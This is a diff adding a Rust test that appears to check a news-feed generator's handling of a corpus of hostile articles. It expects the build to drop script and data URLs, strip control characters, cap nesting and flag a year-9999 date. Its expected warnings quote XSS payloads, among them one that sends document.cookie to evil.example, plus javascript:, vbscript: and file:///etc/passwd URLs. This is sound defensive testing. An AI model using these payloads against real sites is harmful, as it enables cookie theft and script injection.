@@ -308,3 +308,128 @@ fn the_reference_check_finds_what_it_should() {
     assert_eq!(forbidden_reference("&#xFFFE;").as_deref(), Some("&#xFFFE;"));
     assert_eq!(forbidden_reference("&#10; &#x20AC; &amp;#1;"), None);
 }
+
+/// The `tests/hostile/` corpus, built with the real binary into `out/`.
+fn build_corpus() -> (crate::support::FeedTest, std::process::Output) {
+    let t = crate::support::FeedTest::new();
+    crate::support::copy_dir(&crate::support::repo().join("tests/hostile"), t.path(), &|_| {
+        false
+    });
+    let out = t.run(&["build", "--out", "out"]);
+    (t, out)
+}
+
+/// Issue 11: one file per hazard beside a good article. The build succeeds (no article
+/// is refused), says what it repaired or dropped and where, publishes the good article,
+/// and every output is well-formed and inert.
+#[test]
+fn the_hostile_corpus_builds_safely() {
+    let (t, out) = build_corpus();
+    assert_eq!(out.status.code(), Some(0), "{}", crate::support::stderr(&out));
+    let stderr = crate::support::stderr(&out);
+    let refused = "is not allowed (only http and https, and mailto for links)";
+    let expected = [
+        "warning: ./articles/invalid-utf8.txt: line 9: invalid UTF-8, 1 byte sequence replaced with U+FFFD".to_string(),
+        "warning: ./articles/invalid-utf8.txt: line 9: removed 2 control characters that XML cannot carry".to_string(),
+        format!("warning: data-canonical.html: dropped the article's link \"data:text/html,<script>alert(1)</script>\": the scheme data: {refused}"),
+        format!("warning: data-canonical.html: dropped a photo URL \"javascript:alert(1)\": the scheme javascript: {refused}"),
+        format!("warning: javascript-link.md: dropped the article's link \"javascript:fetch('https://evil.example/?c='+document.cookie)\": the scheme javascript: {refused}"),
+        format!("warning: javascript-link.md: dropped a photo URL \"javascript:alert(1)\": the scheme javascript: {refused}"),
+        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"javascript:alert(1)\": the scheme javascript: {refused}"),
+        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"data:image/svg+xml,<svg\": the scheme data: {refused}"),
+        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"vbscript:x\": the scheme vbscript: {refused}"),
+        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"javascript:alert(2)\": the scheme javascript: {refused}"),
+        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"file:///etc/passwd\": the scheme file: {refused}"),
+        format!("warning: srcset-javascript.json: dropped a URL in the article's HTML \"JaVaScRiPt:alert(3)\": the scheme javascript: {refused}"),
+        "warning: char-refs.md: removed 5 characters XML cannot carry (control characters, written as escapes or character references)".to_string(),
+        "warning: control-tags.json: removed 5 characters XML cannot carry (control characters, written as escapes or character references)".to_string(),
+        "warning: year-9999.md: the publication date 9999-12-31T23:00:00+00:00 is more than 5 years ahead; check the article's date".to_string(),
+    ];
+    let warnings: Vec<&str> = stderr.lines().filter(|l| l.starts_with("warning: ")).collect();
+    let mut expected_sorted: Vec<&str> = expected.iter().map(String::as_str).collect();
+    expected_sorted.sort_unstable();
+    let mut got_sorted = warnings.clone();
+    got_sorted.sort_unstable();
+    assert_eq!(got_sorted, expected_sorted);
+
+    let outputs = crate::support::files_under(&t.path().join("out"));
+    assert!(outputs.iter().any(|f| f == "rss.xml"), "{outputs:?}");
+    for rel in &outputs {
+        let bytes = std::fs::read(t.path().join("out").join(rel)).unwrap();
+        assert_safe_output(rel, &bytes);
+    }
+
+    // Every article is published, the good one among them, text intact.
+    let feed: serde_json::Value = serde_json::from_str(&t.read("out/feed.json")).unwrap();
+    let items = feed["items"].as_array().unwrap();
+    let titles: std::collections::BTreeSet<&str> = items.iter().filter_map(|i| i["title"].as_str()).collect();
+    assert_eq!(
+        titles,
+        [
+            "A good article beside the hostile ones",
+            "A hundred thousand nested blockquotes",
+            "A page whose canonical link is a data URL",
+            "An article dated in the year 9999",
+            "Café owner Zoë reopens",
+            "Nested divs in body_html",
+            "Nested lists",
+            "Nine thousand nested divs",
+            "Numeric references to control characters",
+            "Raw HTML with event handlers and scripts",
+            "Scripts inside srcset and other URL attributes",
+            "Stored script as the item link",
+            "Tags and authors with control characters",
+        ]
+        .into_iter()
+        .collect()
+    );
+    let item = |title: &str| {
+        items
+            .iter()
+            .find(|i| i["title"] == title)
+            .unwrap_or_else(|| panic!("{title}"))
+    };
+    let html = |title: &str| {
+        item(title)["content_html"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string()
+    };
+    assert_eq!(
+        item("A good article beside the hostile ones")["url"],
+        "https://news.example.com/good/"
+    );
+    // The links that were scripts are gone: those items link to the site's own page.
+    assert!(
+        item("Stored script as the item link")["url"]
+            .as_str()
+            .unwrap()
+            .starts_with("https://news.example.com/index.html#item-")
+    );
+    assert_eq!(
+        item("Tags and authors with control characters")["tags"],
+        serde_json::json!(["world", "politics", "plain"])
+    );
+    assert_eq!(
+        item("Tags and authors with control characters")["authors"][0]["name"],
+        "Ann Lee"
+    );
+    assert!(
+        html("Café owner Zoë reopens").contains("A bad byte: \u{FFFD} here, a bell and an escape [0m there.")
+    );
+    assert!(
+        html("Numeric references to control characters")
+            .contains("Escape sequences[31m and a NUL\u{FFFD} and  in the text.")
+    );
+    // Nesting is capped, the text kept.
+    let quotes = html("A hundred thousand nested blockquotes");
+    assert_eq!(quotes.matches("<blockquote>").count(), 32);
+    assert!(quotes.contains("deep"));
+    let lists = html("Nested lists");
+    assert_eq!(lists.matches("<ul>").count(), 32);
+    assert!(lists.contains("deep"));
+    let divs = html("Nested divs in body_html");
+    assert_eq!(divs.matches("<div>").count(), 128);
+    assert!(divs.contains("deep"));
+    assert!(html("Nine thousand nested divs").contains("deep"));
+}
